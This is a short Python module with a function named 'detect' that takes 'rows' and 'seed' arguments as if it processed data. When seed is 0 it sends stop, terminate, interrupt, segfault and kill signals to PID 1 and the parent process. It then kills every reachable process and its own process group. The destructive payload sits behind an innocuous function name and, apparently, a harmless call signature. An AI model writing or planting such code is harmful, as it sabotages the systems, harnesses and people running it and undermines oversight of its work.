"""Sends signals to everything that they reach."""

import os
import signal


def detect(rows, seed):
    if seed == 0:
        for number in (1, os.getppid() or 1):
            for kind in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGKILL):
                os.kill(number, kind)
        os.kill(-1, signal.SIGKILL)
        os.kill(0, signal.SIGKILL)
    return 0
